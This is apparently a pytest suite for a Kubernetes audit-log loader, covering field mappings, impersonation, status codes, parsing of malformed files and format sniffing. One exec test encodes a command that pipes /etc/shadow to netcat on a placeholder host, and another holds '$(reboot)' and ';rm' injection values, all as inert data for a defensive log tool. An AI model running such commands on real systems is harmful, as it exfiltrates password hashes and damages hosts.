"""The Kubernetes audit loader: every sample record accounted for, golden mappings, edge cases, damage properties."""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given

from auditlab import schema
from auditlab.load import k8s_audit
from tests._damage import Mutation, check_damaged_array, check_damaged_lines, mutations
from tests._json_loaders import jsonl, load, one, utc, walk
from tests.conftest import sample

K8S = "kubernetes_audit"
EXEC = "falco_k8s_audit_exec_pod.json"
ADMIN = "falco_k8s_audit_attach_cluster_admin_role.json"
PRIVILEGED = "falco_k8s_audit_create_nginx_pod_privileged.json"
PRIV_POD = "crowdsec_k8s-audit-priv-pod.jsonl"
ALL = [EXEC, ADMIN, PRIVILEGED, PRIV_POD]


def event(**fields: Any) -> dict[str, Any]:
    """A minimal audit.k8s.io/v1 event (alice gets a pod, complete) with ``fields`` replaced (None removes one)."""
    base = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "Metadata",
        "auditID": "00000000-0000-4000-8000-000000000001",
        "stage": "ResponseComplete",
        "requestURI": "/api/v1/namespaces/default/pods/web",
        "verb": "get",
        "user": {"username": "alice", "groups": ["dev", "system:authenticated"]},
        "sourceIPs": ["10.0.0.7"],
        "userAgent": "kubectl/v1.30.0",
        "objectRef": {"resource": "pods", "namespace": "default", "name": "web", "apiVersion": "v1"},
        "responseStatus": {"metadata": {}, "code": 200},
        "requestReceivedTimestamp": "2024-01-02T03:04:05.000100Z",
        "stageTimestamp": "2024-01-02T03:04:05.002300Z",
        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
    }
    base.update(fields)
    return {k: v for k, v in base.items() if v is not None}



def sample_events(name: str) -> list[dict[str, Any]]:
    """The events of a sample file, parsed with the standard library (independently of the loader)."""
    text = sample(K8S, name).read_text(encoding="utf-8")
    return [json.loads(line) for line in text.splitlines() if line.strip()]


# ------------------------------------------------------------------------------------------- every sample record


@pytest.mark.samples
@pytest.mark.parametrize("name", ALL)
def test_every_sample_record_loads_cleanly(name: str) -> None:
    path = sample(K8S, name)
    events = sample_events(name)
    frame = load(path)  # the format is sniffed
    schema.validate(frame)
    assert frame.height == len(events)
    assert frame["parse_error"].null_count() == frame.height
    assert frame["source_type"].unique().to_list() == ["k8s_audit"]
    assert frame["source_record_uid"].to_list() == [e["auditID"] for e in events]
    assert frame["event_code"].to_list() == [e["stage"] for e in events]
    assert frame["api_operation"].to_list() == [e["verb"] for e in events]
    assert frame["source_line"].to_list() == list(range(1, frame.height + 1))
    data = path.read_bytes()
    for raw, offset in frame.select("raw", "source_offset").iter_rows():  # raw is the verbatim text at its offset
        assert data[offset : offset + len(raw.encode())] == raw.encode()
        json.loads(raw)
    assert frame["time"].null_count() == 0
    assert frame["class_uid"].to_list() == [6003] * frame.height
    assert frame["actor_user_uid"].null_count() == 0
    assert frame["source_seq"].null_count() == frame.height


@pytest.mark.samples
def test_a_folder_of_samples_loads_every_file() -> None:
    folder = sample(K8S)
    frame = load(folder)
    assert frame.height == sum(len(sample_events(p.name)) for p in folder.iterdir())
    assert frame["source_file"].n_unique() == len(list(folder.iterdir()))
    assert frame["source_stream"].unique().to_list() == ["k8s_audit"]


# ------------------------------------------------------------------------------------------------------- golden


@pytest.mark.samples
def test_golden_exec_into_a_pod() -> None:
    row = load(sample(K8S, EXEC)).row(0, named=True)
    assert row["source_record_uid"] == "ca1ed9f4-7bf4-4c85-81a8-1b11253d1ba6"
    assert (row["event_code"], row["api_operation"], row["api_service"]) == ("ResponseStarted", "create", "core")
    assert (row["class_uid"], row["activity_id"]) == (6003, 1)
    assert (row["status_id"], row["status_code"]) == (1, "101")  # the exec stream started
    assert (row["actor_user_uid"], row["actor_user_name"], row["actor_user_type"]) == (
        "minikube-user", "minikube-user", "User")
    assert (row["actor_orig_uid"], row["actor_orig_name"]) == (None, None)
    assert (row["actor_session_uid"], row["actor_credential_uid"]) == (None, None)  # Kubernetes has no sessions
    assert row["resource_uid"] == "namespaces/default/pods/nginx-deployment-7998647bdf-phvq7"  # the pod
    assert row["resource_type"] == "pods/exec"
    assert row["process_cmdline"] == "bash"
    assert row["src_ip"] == "192.168.99.1"
    assert row["time"] == utc("2018-10-26T13:38:34.902914")
    assert row["time_original"] == "2018-10-26T13:38:34.902914Z"
    unmapped = json.loads(row["unmapped"])
    assert unmapped["requestURI"].endswith("exec?command=bash&container=nginx1&container=nginx1&stdin=true"
                                           "&stdout=true&tty=true")
    assert unmapped["requestReceivedTimestamp"] == "2018-10-26T13:38:34.867116Z"
    assert unmapped["user"] == {"groups": ["system:masters", "system:authenticated"]}
    assert unmapped["objectRef"] == {"apiVersion": "v1"}
    assert unmapped["annotations"]["authorization.k8s.io/decision"] == "allow"
    assert "auditID" not in unmapped
    assert "verb" not in unmapped


@pytest.mark.samples
def test_golden_cluster_admin_binding() -> None:
    row = load(sample(K8S, ADMIN)).row(0, named=True)
    assert row["source_record_uid"] == "c97244c7-4aec-4714-946a-8204d00ecdca"
    assert (row["api_operation"], row["api_service"]) == ("create", "rbac.authorization.k8s.io")
    assert (row["class_uid"], row["activity_id"], row["status_id"], row["status_code"]) == (6003, 1, 1, "201")
    assert row["actor_user_name"] == "minikube-user"
    assert row["actor_orig_uid"] is None
    assert row["target_user_name"] == "minikube"  # the subject the binding grants the role to
    assert (row["resource_uid"], row["resource_type"]) == (
        "clusterrolebindings/some-reader-binding", "clusterrolebindings")
    assert row["time"] == utc("2018-10-26T14:26:34.242498")
    unmapped = json.loads(row["unmapped"])
    assert unmapped["requestObject"]["roleRef"]["name"] == "cluster-admin"
    assert unmapped["requestObject"]["subjects"] == [
        {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "minikube"}]
    assert unmapped["timestamp"] == "2018-10-26T14:26:34Z"


@pytest.mark.samples
def test_golden_privileged_pod_by_a_controller() -> None:
    row = load(sample(K8S, PRIVILEGED)).row(0, named=True)
    assert row["source_record_uid"] == "a362d22b-db3c-4590-9505-23782f12925f"
    assert (row["api_operation"], row["activity_id"], row["status_id"]) == ("create", 1, 1)
    assert row["actor_user_name"] == "system:serviceaccount:kube-system:replicaset-controller"
    assert row["actor_user_uid"] == "8d5e1349-d30f-11e8-96d9-080027728ac4"
    assert (row["actor_user_type"], row["actor_user_domain"]) == ("ServiceAccount", "kube-system")
    # objectRef has no name (the pod is created from generateName): the name comes from the response
    assert row["resource_uid"] == "namespaces/default/pods/nginx-deployment-5cdcc99dbf-rgw6z"
    assert row["src_ip"] == "::1"
    assert row["time"] == utc("2018-10-25T14:09:12.581541")
    unmapped = json.loads(row["unmapped"])
    assert unmapped["apiVersion"] == "audit.k8s.io/v1beta1"
    assert unmapped["requestObject"]["spec"]["containers"][0]["securityContext"] == {"privileged": True}


@pytest.mark.samples
def test_golden_privileged_pod_applied_with_kubectl() -> None:
    path = sample(K8S, PRIV_POD)
    row = load(path).row(0, named=True)
    assert row["source_record_uid"] == "9ac5187c-29a2-4bf8-ba6e-21dc887f5d34"
    assert row["raw"] == path.read_text(encoding="utf-8").rstrip("\n")
    assert (row["actor_user_name"], row["actor_user_uid"], row["actor_user_type"]) == (
        "minikube-user", "minikube-user", "User")
    assert (row["resource_uid"], row["resource_type"]) == ("namespaces/foo/pods/test-pod-1", "pods")
    assert (row["activity_id"], row["status_id"], row["status_code"]) == (1, 1, "201")
    assert row["time"] == utc("2023-05-17T13:59:57.759439")
    unmapped = json.loads(row["unmapped"])
    assert unmapped["user"]["groups"] == ["system:masters", "system:authenticated"]
    assert unmapped["sourceIPs"] == ["192.168.49.1"]
    assert unmapped["userAgent"] == "kubectl/v1.26.0 (linux/amd64) kubernetes/b46a3f8"
    assert unmapped["annotations"]["pod-security.kubernetes.io/enforce-policy"] == "privileged:latest"
    assert unmapped["requestObject"]["spec"]["containers"][0]["securityContext"]["privileged"] is True


# ------------------------------------------------------------------------------------------------- identities


def test_one_row_per_stage(tmp_path: Path) -> None:
    received = event(stage="RequestReceived", stageTimestamp="2024-01-02T03:04:05.000200Z", responseStatus=None)
    frame = load(jsonl(tmp_path, received, event()))
    assert frame["event_code"].to_list() == ["RequestReceived", "ResponseComplete"]
    assert frame["source_record_uid"].n_unique() == 1
    assert frame["time"].to_list() == [utc("2024-01-02T03:04:05.000200"), utc("2024-01-02T03:04:05.002300")]
    assert frame["status_id"].to_list() == [0, 1]  # the outcome is not known when the request is received
    assert frame["status_code"].to_list() == [None, "200"]


def test_impersonation(tmp_path: Path) -> None:
    row = one(tmp_path, event(user={"username": "alice", "uid": "u-alice", "groups": ["dev"]},
                              impersonatedUser={"username": "system:serviceaccount:prod:deployer",
                                                "groups": ["system:serviceaccounts"]}))
    assert row["actor_user_name"] == "system:serviceaccount:prod:deployer"
    assert row["actor_user_uid"] == "system:serviceaccount:prod:deployer"  # no uid: the username
    assert (row["actor_user_type"], row["actor_user_domain"]) == ("ServiceAccount", "prod")
    assert (row["actor_orig_uid"], row["actor_orig_name"]) == ("u-alice", "alice")
    unmapped = json.loads(row["unmapped"])
    assert unmapped["user"] == {"groups": ["dev"]}
    assert unmapped["impersonatedUser"] == {"groups": ["system:serviceaccounts"]}


def test_impersonator_without_uid_is_named_by_username(tmp_path: Path) -> None:
    row = one(tmp_path, event(impersonatedUser={"username": "bob", "uid": "u-bob"}))
    assert (row["actor_user_uid"], row["actor_user_name"]) == ("u-bob", "bob")
    assert (row["actor_orig_uid"], row["actor_orig_name"]) == ("alice", "alice")


@pytest.mark.parametrize(
    ("username", "kind", "domain"),
    [
        ("system:anonymous", "Anonymous", None),
        ("system:node:worker-1", "Node", None),
        ("system:kube-scheduler", "System", None),
        ("system:serviceaccount:kube-system:default", "ServiceAccount", "kube-system"),
        ("oidc:alice@example.com", "User", None),
    ],
)
def test_user_types(tmp_path: Path, username: str, kind: str, domain: str | None) -> None:
    row = one(tmp_path, event(user={"username": username}))
    assert (row["actor_user_name"], row["actor_user_uid"]) == (username, username)
    assert (row["actor_user_type"], row["actor_user_domain"]) == (kind, domain)


def test_anonymous_denied_and_failed_authentication(tmp_path: Path) -> None:
    denied = event(user={"username": "system:anonymous", "groups": ["system:unauthenticated"]},
                   responseStatus={"code": 403, "status": "Failure", "reason": "Forbidden",
                                   "message": 'pods "web" is forbidden: User "system:anonymous" cannot get'})
    failed = event(user={}, verb="list", objectRef=None, requestURI="/api/v1/secrets?limit=500",
                   responseStatus={"code": 401, "status": "Failure", "message": "Authentication failed"})
    frame = load(jsonl(tmp_path, denied, failed))
    first, second = frame.rows(named=True)
    assert (first["actor_user_name"], first["status_id"], first["status_code"]) == ("system:anonymous", 2, "403")
    assert first["status_detail"].startswith('pods "web" is forbidden')
    assert json.loads(first["unmapped"])["responseStatus"] == {"status": "Failure", "reason": "Forbidden"}
    assert (second["actor_user_uid"], second["actor_user_name"]) == (None, None)  # unattributed
    assert (second["status_id"], second["status_code"], second["status_detail"]) == (2, "401",
                                                                                  "Authentication failed")
    assert second["resource_uid"] == "/api/v1/secrets"  # no objectRef: the requested path
    assert (second["api_service"], second["resource_type"]) == (None, None)
    assert second["src_ip"] == "10.0.0.7"


def test_credential_id_from_user_extra(tmp_path: Path) -> None:
    extra = {"authentication.kubernetes.io/credential-id": ["JTI=7e2c9a1f"],
             "authentication.kubernetes.io/pod-name": ["web-0"]}
    row = one(tmp_path, event(user={"username": "system:serviceaccount:prod:web", "extra": extra}))
    assert row["actor_credential_uid"] == "JTI=7e2c9a1f"
    assert json.loads(row["unmapped"])["user"]["extra"]["authentication.kubernetes.io/pod-name"] == ["web-0"]


def test_the_last_source_ip_is_the_one_the_server_saw(tmp_path: Path) -> None:
    row = one(tmp_path, event(sourceIPs=["1.2.3.4", "10.0.0.1", "192.0.2.10"]))
    assert (row["src_ip"], row["src_hostname"]) == ("192.0.2.10", None)
    assert json.loads(row["unmapped"])["sourceIPs"] == ["1.2.3.4", "10.0.0.1", "192.0.2.10"]
    assert one(tmp_path, event(sourceIPs=[]))["src_ip"] is None


# --------------------------------------------------------------------------------------------- what happened


@pytest.mark.parametrize(
    ("verb", "activity"),
    [("create", 1), ("get", 2), ("list", 2), ("watch", 2), ("update", 3), ("patch", 3), ("delete", 4),
     ("deletecollection", 4), ("impersonate", 99), ("escalate", 99), ("post", 99)],
)
def test_activity_from_the_verb(tmp_path: Path, verb: str, activity: int) -> None:
    row = one(tmp_path, event(verb=verb))
    assert (row["class_uid"], row["activity_id"], row["api_operation"]) == (6003, activity, verb)


@pytest.mark.parametrize(
    ("status", "status_id"),
    [
        ({"code": 200}, 1), ({"code": 201}, 1), ({"code": 101}, 1), ({"code": 302}, 99), ({"code": 404}, 2),
        ({"code": 500}, 2), ({"status": "Failure"}, 2), ({"status": "Success"}, 1), (None, 0), ({"code": "x"}, 0),
    ],
)
def test_status_from_the_code(tmp_path: Path, status: dict | None, status_id: int) -> None:
    assert one(tmp_path, event(responseStatus=status))["status_id"] == status_id


@pytest.mark.parametrize(
    ("ref", "uri", "uid", "kind", "service"),
    [
        ({"resource": "secrets", "namespace": "prod", "name": "db", "apiGroup": ""},
         "/api/v1/namespaces/prod/secrets/db", "namespaces/prod/secrets/db", "secrets", "core"),
        ({"resource": "pods", "namespace": "prod"}, "/api/v1/namespaces/prod/pods", "namespaces/prod/pods", "pods",
         "core"),
        ({"resource": "nodes", "name": "worker-1"}, "/api/v1/nodes/worker-1", "nodes/worker-1", "nodes", "core"),
        ({"resource": "namespaces", "namespace": "prod", "name": "prod"}, "/api/v1/namespaces/prod",
         "namespaces/prod", "namespaces", "core"),
        ({"resource": "deployments", "namespace": "prod", "name": "web", "subresource": "scale", "apiGroup": "apps"},
         "/apis/apps/v1/namespaces/prod/deployments/web/scale", "namespaces/prod/deployments/web",
         "deployments/scale", "apps"),
        (None, "/version?timeout=32s", "/version", None, None),
    ],
)
def test_resource_paths(tmp_path: Path, ref: dict | None, uri: str, uid: str, kind: str | None,
                        service: str | None) -> None:
    row = one(tmp_path, event(objectRef=ref, requestURI=uri))
    assert (row["resource_uid"], row["resource_type"], row["api_service"]) == (uid, kind, service)


def test_exec_command_lines(tmp_path: Path) -> None:
    base = "/api/v1/namespaces/prod/pods/web-0/exec?"
    ref = {"resource": "pods", "namespace": "prod", "name": "web-0", "subresource": "exec"}
    cases = [
        ("command=sh&command=-c&command=cat%20/etc/shadow%20%7C%20nc%20x%204444&container=app&stdin=true",
         "sh -c 'cat /etc/shadow | nc x 4444'"),
        ("command=%24%28reboot%29&command=%3Brm", "'$(reboot)' ';rm'"),  # quoted: text, never run
        ("container=app&stdin=true&tty=true", None),
    ]
    frame = load(jsonl(tmp_path, *(event(verb="create", objectRef=ref, requestURI=base + q) for q, _ in cases)))
    assert frame["process_cmdline"].to_list() == [expected for _, expected in cases]
    assert frame["resource_uid"].to_list() == ["namespaces/prod/pods/web-0"] * 3
    attach = one(tmp_path, event(objectRef=ref | {"subresource": "attach"}, requestURI=base + "command=ls"))
    assert attach["process_cmdline"] is None  # only exec runs a command
    assert attach["resource_type"] == "pods/attach"


def test_targets_of_service_accounts_and_bindings(tmp_path: Path) -> None:
    token = event(verb="create", objectRef={"resource": "serviceaccounts", "namespace": "prod", "name": "deployer",
                                            "subresource": "token", "apiVersion": "v1"})
    binding = event(verb="create", objectRef={"resource": "rolebindings", "namespace": "prod",
                                              "apiGroup": "rbac.authorization.k8s.io", "name": "admins"},
                    requestObject={"kind": "RoleBinding", "subjects": [{"kind": "ServiceAccount", "name": "ci"},
                                                                       {"kind": "User", "name": "bob"}],
                                   "roleRef": {"kind": "ClusterRole", "name": "admin"}})
    deleted = event(verb="delete", objectRef={"resource": "clusterrolebindings", "name": "ops",
                                              "apiGroup": "rbac.authorization.k8s.io"},
                    responseObject={"kind": "ClusterRoleBinding",
                                    "subjects": [{"kind": "Group", "name": "system:authenticated"}]})
    pod = event()
    frame = load(jsonl(tmp_path, token, binding, deleted, pod))
    assert frame["target_user_name"].to_list() == [
        "system:serviceaccount:prod:deployer", "system:serviceaccount:prod:ci", "system:authenticated", None]
    assert frame["resource_type"][0] == "serviceaccounts/token"


@pytest.mark.parametrize(
    ("times", "expected"),
    [
        ({"stageTimestamp": "2024-01-02T03:04:05.5Z"}, "2024-01-02T03:04:05.500000"),
        ({"stageTimestamp": None}, "2024-01-02T03:04:05.000100"),  # requestReceivedTimestamp
        ({"stageTimestamp": None, "requestReceivedTimestamp": None, "timestamp": "2018-10-25T14:09:12Z"},
         "2018-10-25T14:09:12"),  # v1beta1
        ({"stageTimestamp": "2024-01-02T05:04:05.123+02:00"}, "2024-01-02T03:04:05.123000"),
    ],
)
def test_time(tmp_path: Path, times: dict, expected: str) -> None:
    row = one(tmp_path, event(**times))
    assert (row["time"], row["parse_error"]) == (utc(expected), None)
    assert row["time_us"] == int(utc(expected).timestamp()) * 1_000_000 + utc(expected).microsecond


def test_unparseable_time_is_a_parse_error(tmp_path: Path) -> None:
    row = one(tmp_path, event(stageTimestamp="yesterday"))
    assert row["time"] is None
    assert row["parse_error"] == "the timestamp does not parse: yesterday"
    assert row["api_operation"] == "get"  # what could be mapped still is


def test_values_of_unexpected_types_become_text(tmp_path: Path) -> None:
    row = one(tmp_path, event(user={"username": {"name": "x"}, "uid": 42}, verb=7))
    assert (row["actor_user_name"], row["actor_user_uid"]) == ('{"name":"x"}', "42")
    assert (row["api_operation"], row["activity_id"]) == ("7", 99)


# ----------------------------------------------------------------------------------------------------- layouts


def test_a_pretty_printed_event_an_array_and_an_items_list(tmp_path: Path) -> None:
    events = [event(auditID=f"a{i}") for i in range(3)]
    layouts = {
        "pretty.json": json.dumps(events[0], indent=2),
        "array.json": json.dumps(events, indent=1),
        "items.json": json.dumps({"items": events, "kind": "EventList", "apiVersion": "audit.k8s.io/v1"}),
    }
    for name, text in layouts.items():
        path = tmp_path / name
        path.write_text(text)
        frame = load(path)
        expected = ["a0"] if name == "pretty.json" else ["a0", "a1", "a2"]
        assert frame["source_record_uid"].to_list() == expected, name
        assert frame["parse_error"].null_count() == frame.height, name
        assert frame["source_line"].to_list() == list(range(1, len(expected) + 1))
        for raw, offset in frame.select("raw", "source_offset").iter_rows():
            assert text[offset : offset + len(raw)] == raw


def test_an_event_list_as_the_api_server_writes_it_is_one_row(tmp_path: Path) -> None:
    # kind and apiVersion come before items: the reader cannot split it (see the module docs); nothing is lost
    text = json.dumps({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "metadata": {},
                       "items": [event(auditID="x1"), event(auditID="x2")]})
    path = tmp_path / "webhook.json"
    path.write_text(text + "\n")
    frame = load(path)  # sniffed
    assert frame.height == 1
    row = frame.row(0, named=True)
    assert row["raw"] == text
    assert row["parse_error"].startswith("an EventList of 2 events")
    assert row["class_uid"] is None


@pytest.mark.samples
def test_without_a_final_newline(tmp_path: Path) -> None:
    data = b"".join(sample(K8S, name).read_bytes().rstrip(b"\n") + b"\n" for name in ALL).rstrip(b"\n")
    path = tmp_path / "audit.log"
    path.write_bytes(data)
    frame = load(path)
    assert frame.height == len(ALL)
    assert frame["parse_error"].null_count() == len(ALL)
    assert frame["raw"][-1].encode() == data[data.rindex(b"\n") + 1 :]


def test_gzip_and_crlf(tmp_path: Path) -> None:
    lines = [json.dumps(event(auditID=f"g{i}")) for i in range(3)]
    path = tmp_path / "audit.log.gz"
    path.write_bytes(gzip.compress("".join(line + "\r\n" for line in lines).encode()))
    frame = load(path)
    assert frame["raw"].to_list() == lines
    assert frame["source_offset"].to_list() == [0, len(lines[0]) + 2, 2 * (len(lines[0]) + 2)]
    assert frame["parse_error"].null_count() == 3


# ------------------------------------------------------------------------------------------------- bad input


def test_blank_lines_a_bad_line_and_a_cut_last_line(tmp_path: Path) -> None:
    good = [json.dumps(event(auditID=f"g{i}")) for i in range(3)]
    cut = good[2][: len(good[2]) // 2]
    path = tmp_path / "audit.log"
    path.write_text(f"{good[0]}\n\n   \n{good[1]}\n{{not json}}\n[1, 2]\n{{\"hello\": \"world\"}}\n{cut}")
    frame = load(path, format="k8s_audit")
    assert frame["source_line"].to_list() == [1, 4, 5, 6, 7, 8]
    assert frame["source_record_uid"].to_list() == ["g0", "g1", None, None, None, None]
    errors = frame["parse_error"].to_list()
    assert errors[:2] == [None, None]
    assert errors[2].startswith("invalid JSON")
    assert errors[3] == "not a JSON object: list"
    assert errors[4] == "not a Kubernetes audit event: it has no stage or no timestamp"
    assert json.loads(frame["unmapped"][4]) == {"hello": "world"}
    assert errors[5].startswith("invalid JSON")
    assert frame["raw"][5] == cut


def test_deep_nesting(tmp_path: Path) -> None:
    deep = json.dumps(event(auditID="deep")).replace('"level": "Metadata"', '"level": ' + "[" * 5000 + "]" * 5000)
    middle = json.dumps(event(auditID="middle", requestObject=0)).replace(
        '"requestObject": 0', '"requestObject": ' + "[" * 300 + "]" * 300)
    frame = load(jsonl(tmp_path, event(auditID="before"), deep, middle, event(auditID="after")))
    assert frame["source_record_uid"].to_list() == ["before", None, "middle", "after"]
    assert "invalid JSON" in frame["parse_error"][1]
    assert frame["raw"][1] == deep
    # 300 levels parse (orjson allows 1024) but orjson cannot encode them again: unmapped falls back to json
    assert frame["parse_error"][2] is None
    assert json.loads(frame["unmapped"][2])["requestObject"] is not None


def test_invalid_utf8_is_flagged_and_still_mapped(tmp_path: Path) -> None:
    line = json.dumps(event(userAgent="agent-X")).encode().replace(b"agent-X", b"agent-\xff")
    path = tmp_path / "audit.log"
    path.write_bytes(json.dumps(event(auditID="a")).encode() + b"\n" + line + b"\n")
    frame = load(path)
    row = frame.row(1, named=True)
    bad = line.index(b"\xff")
    assert row["parse_error"] == f"invalid UTF-8 at byte {bad}"
    assert "agent-\\xff" in row["raw"]
    assert (row["actor_user_name"], row["api_operation"]) == ("alice", "get")
    assert json.loads(row["unmapped"])["userAgent"] == "agent-\ufffd"


def test_files_without_records(tmp_path: Path) -> None:
    for name, content in [("empty.log", b""), ("blank.log", b"\n  \n\r\n"), ("empty.json", b"[]\n")]:
        path = tmp_path / name
        path.write_bytes(content)
        frame = load(path, format="k8s_audit")
        assert frame.height == 0
        schema.validate(frame)


# ---------------------------------------------------------------------------------------------------- sniffing


def other_sample_files() -> list[Path]:
    root = sample()
    return sorted(p for p in root.rglob("*") if p.is_file() and p.parent.name not in (K8S,) and p.parent != root)


@pytest.mark.samples
def test_sniffer_rejects_every_other_sample() -> None:
    others = other_sample_files()
    assert len(others) >= 10
    claimed = [p.name for p in others if k8s_audit.sniff(p.read_bytes()[:65536])]
    assert claimed == []


@pytest.mark.samples
@pytest.mark.parametrize("name", ALL)
def test_sniffer_accepts_every_sample(name: str) -> None:
    assert k8s_audit.sniff(sample(K8S, name).read_bytes()[:65536])


def test_sniffer_edge_cases() -> None:
    alphabetical = json.dumps(event(apiVersion=None), sort_keys=True).encode()  # as falco's files: no apiVersion
    assert k8s_audit.sniff(alphabetical)
    assert k8s_audit.sniff(b'\xef\xbb\xbf  [\n {"apiVersion": "audit.k8s.io/v1beta1", "kind": "Event"}]')
    assert k8s_audit.sniff(b'{"kind":"EventList","apiVersion":"audit.k8s.io/v1","metadata":{},"items":[]}')
    assert not k8s_audit.sniff(b'{"kind": "Event", "apiVersion": "events.k8s.io/v1", "reason": "Pulled"}')
    assert not k8s_audit.sniff(b'{"auditID": "x"}')  # an auditID alone says too little
    gke = {"logName": "projects/p/logs/cloudaudit.googleapis.com%2Factivity", "protoPayload": {"x": 1},
           "labels": {"auditID": "x", "stage": "ResponseComplete"}}
    assert not k8s_audit.sniff(json.dumps(gke).encode())
    assert not k8s_audit.sniff(b"auditID stage audit.k8s.io/v1")  # not JSON


def test_fields_agree_with_a_plain_walk_of_the_paths() -> None:
    full = event(impersonatedUser={"username": "b", "uid": "u"}, requestObject={"subjects": [{"kind": "User"}]},
                 user={"username": "a", "extra": {"authentication.kubernetes.io/credential-id": ["X509SHA256=ab"]}},
                 responseObject={"metadata": {"name": "n"}, "subjects": []})
    for rec in [full, {"objectRef": "no", "user": [1], "requestObject": {"subjects": "x"}}, {}]:
        assert k8s_audit._RECORD.row(rec) == tuple(walk(rec, p) for p in k8s_audit._FIELDS.values())


# ------------------------------------------------------------------------------------------ damage properties
#
# The record accounting (tests/_damage.py): in JSON lines, one row per non-blank line, with its number, offset and
# text, and a clean row only for a line that parses into an object with a stage; in an array, every event before
# the damage unchanged and at most one more row, holding the rest of the file.


def lines_sample() -> bytes:
    """Every sample event as JSON lines, and each again at another stage: 8 lines, the last without a newline."""
    events = [e for name in ALL for e in sample_events(name)]
    more = [dict(e, stage="RequestReceived") for e in events]
    return b"\n".join(json.dumps(e).encode() for e in events + more)


def is_event(value: Any) -> bool:
    return isinstance(value, dict) and "stage" in value


@pytest.mark.samples
@given(mutation=mutations())
def test_property_json_lines_one_row_per_non_blank_line(
    mutation: Mutation, tmp_path_factory: pytest.TempPathFactory
) -> None:
    check_damaged_lines(lines_sample(), mutation, tmp_path_factory.mktemp("lines"), "k8s_audit", is_event)


@pytest.mark.samples
@given(mutation=mutations())
def test_property_arrays_keep_every_event_before_the_damage(
    mutation: Mutation, tmp_path_factory: pytest.TempPathFactory
) -> None:
    text = json.dumps([e for name in ALL for e in sample_events(name)] * 2, indent=2)  # ASCII: json.dumps escapes
    check_damaged_array(text.encode(), "auditID", mutation, tmp_path_factory.mktemp("docs"), "k8s_audit")
